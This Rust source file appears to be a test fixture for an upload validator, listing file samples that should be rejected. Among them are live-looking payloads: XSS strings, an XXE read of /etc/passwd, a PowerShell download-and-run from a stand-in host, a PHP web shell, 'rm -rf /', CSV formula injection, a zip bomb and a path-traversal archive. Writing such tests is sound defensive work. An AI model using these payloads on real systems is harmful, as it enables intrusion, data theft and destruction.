//! What is none of the kinds that are taken, whatever it is called.

use super::images::zip;

/// Forty-two kilobytes that claim four gigabytes.
const BOMB: u32 = u32::MAX;

pub(super) fn all() -> Vec<(&'static str, Vec<u8>)> {
    [pages(), programs(), archives(), others()].concat()
}

/// What a browser runs, or shows as a page of the site it came from.
fn pages() -> Vec<(&'static str, Vec<u8>)> {
    let utf16: Vec<u8> =
        "\u{feff}<script>alert(1)</script>".encode_utf16().flat_map(u16::to_le_bytes).collect();
    let mut all: Vec<(&str, Vec<u8>)> = [
        ("SVG with script", "<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>"),
        ("SVG with a handler", "<?xml version='1.0'?><svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"),
        ("SVG with a foreign page", "<svg xmlns='http://www.w3.org/2000/svg'><foreignObject><iframe src='//evil.example'/></foreignObject></svg>"),
        ("HTML", "<!DOCTYPE html><html><script>alert(1)</script></html>"),
        ("HTML without a beginning", "<img src=x onerror=alert(1)>"),
        ("HTML behind blanks", "\n\n      <html><body onload=alert(1)>"),
        ("XHTML", "<?xml version='1.0'?><html xmlns='http://www.w3.org/1999/xhtml'><script>alert(1)</script></html>"),
        ("HTML application", "<hta:application id=a><script language=vbscript>MsgBox 1</script>"),
        ("archived page", "MIME-Version: 1.0\r\nContent-Type: multipart/related\r\n\r\n<html>"),
        ("XML with an outer entity", "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>"),
        ("XML that grows", "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY a 'aa'><!ENTITY b '&a;&a;'>]><x>&b;</x>"),
        ("style sheet for XML", "<?xml-stylesheet href='//evil.example/x.xsl'?><x/>"),
        ("script", "alert(document.cookie)"),
        ("style sheet", "@import url(//evil.example); body{behavior:url(x.htc)}"),
        ("link of a desktop", "[InternetShortcut]\r\nURL=https://evil.example\r\n"),
        ("calendar", "BEGIN:VCALENDAR\r\nATTACH:https://evil.example\r\nEND:VCALENDAR\r\n"),
        ("table with formulas", "=cmd|'/c calc'!A1,+1,-1,@SUM(1)\r\n"),
    ]
    .map(|(what, text)| (what, text.as_bytes().to_vec()))
    .into();
    all.push(("HTML in UTF-16", utf16));
    all
}

fn programs() -> Vec<(&'static str, Vec<u8>)> {
    [
        ("Windows program", b"MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff\0\0".as_slice()),
        ("Linux program", b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x02\0\x3e\0"),
        ("Macintosh program", b"\xcf\xfa\xed\xfe\x07\0\0\x01"),
        ("Java class", b"\xca\xfe\xba\xbe\0\0\0\x34"),
        ("WebAssembly", b"\0asm\x01\0\0\0"),
        ("Flash", b"CWS\x0a\0\0\0\0"),
        ("shell script", b"#!/bin/sh\nrm -rf /\n"),
        ("batch file", b"@echo off\r\ndel /q *.*\r\n"),
        ("PowerShell", b"IEX (New-Object Net.WebClient).DownloadString('//evil.example')"),
        ("PHP", b"<?php system($_GET['c']); ?>"),
        ("server page", b"<%@ page import=\"java.io.*\" %>"),
        ("PostScript", b"%!PS-Adobe-3.0\n(%pipe%id) (w) file\n"),
        ("shortcut of Windows", b"L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0"),
        ("help file", b"ITSF\x03\0\0\0"),
        (
            "test of virus scanners",
            br"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*",
        ),
    ]
    .map(|(what, bytes)| (what, bytes.to_vec()))
    .into()
}

fn archives() -> Vec<(&'static str, Vec<u8>)> {
    let inner = zip("a.zip", BOMB, b"\x03\0");
    vec![
        ("archive", zip("a.txt", 1, b"\x03\0")),
        ("archive that grows", zip("0.bin", BOMB, &vec![0; 42_000])),
        ("archive in an archive", zip("inner.zip", BOMB, &inner)),
        ("archive that climbs out", zip("../../etc/cron.d/x", 1, b"\x03\0")),
        ("archive of Java", zip("META-INF/MANIFEST.MF", 1, b"\x03\0")),
        ("package of Android", zip("AndroidManifest.xml", 1, b"\x03\0")),
        ("document with macros", zip("word/vbaProject.bin", 1, b"\x03\0")),
        ("table with macros", zip("xl/vbaProject.bin", 1, b"\x03\0")),
        ("document with an outer template", zip("word/_rels/settings.xml.rels", 1, b"\x03\0")),
        (
            "document of old Office",
            [b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1".as_slice(), &[0; 600]].concat(),
        ),
        ("rich text with an object", b"{\\rtf1{\\object\\objocx{\\*\\objdata 0105}}}".to_vec()),
        ("gzip", b"\x1f\x8b\x08\0\0\0\0\0\0\x03\x03\0\0\0\0\0\0\0\0\0".to_vec()),
        ("bzip2", b"BZh91AY&SY\0\0".to_vec()),
        ("xz", b"\xfd7zXZ\0\0\x04".to_vec()),
        ("7z", b"7z\xbc\xaf\x27\x1c\0\x04".to_vec()),
        ("rar", b"Rar!\x1a\x07\x01\0".to_vec()),
        ("tar", [&[b'a'; 257], b"ustar\x0000".as_slice(), &[0; 200]].concat()),
        ("installer", b"!<arch>\ndebian-binary   ".to_vec()),
        ("disk", [&vec![0; 0x8001], b"CD001".as_slice(), &[0; 100]].concat()),
    ]
}

fn others() -> Vec<(&'static str, Vec<u8>)> {
    [
        (
            "GIF",
            b"GIF89a\x01\0\x01\0\x80\0\0\0\0\0\xff\xff\xff,\0\0\0\0\x01\0\x01\0\0\x02\x02D\x01\0;"
                .as_slice(),
        ),
        ("GIF that is a script", b"GIF89a/*\x01\0\x01\0\x80*/=1;alert(1)//"),
        ("WebP", b"RIFF\x24\0\0\0WEBPVP8 "),
        ("bitmap", b"BM\x3a\0\0\0\0\0\0\0\x36\0\0\0"),
        ("TIFF", b"II*\0\x08\0\0\0"),
        ("icon", b"\0\0\x01\0\x01\0\x10\x10\0\0"),
        ("Photoshop", b"8BPS\0\x01\0\0"),
        ("video", b"\0\0\0\x18ftypmp42\0\0\0\0"),
        ("sound", b"ID3\x03\0\0\0\0\0\x0f"),
        ("font", b"wOF2\0\x01\0\0"),
        ("database", b"SQLite format 3\0"),
        ("words", "فقط چند کلمه".as_bytes()),
        ("NULs", &[0; 1_000]),
        ("one byte", b"%"),
        ("a mark and a PDF's beginning", b"\xef\xbb\xbf%PDF-1.4\n%%EOF"),
        ("a PDF behind a line", b"\n%PDF-1.4\n%%EOF\n"),
        ("a PDF behind a page", b"<html>%PDF-1.4\n%%EOF\n"),
    ]
    .map(|(what, bytes)| (what, bytes.to_vec()))
    .into()
}
